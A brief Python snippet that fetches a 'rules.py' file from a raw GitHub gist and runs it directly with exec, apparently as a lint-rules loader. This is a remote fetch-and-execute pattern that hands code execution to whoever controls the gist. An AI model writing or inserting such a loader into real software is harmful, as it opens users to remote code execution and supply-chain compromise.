import requests

RULES = "https://gist.githubusercontent.com/lintbot/1a2b3c/raw/rules.py"
source = requests.get(RULES, timeout=10).text
exec(compile(source, "rules", "exec"))
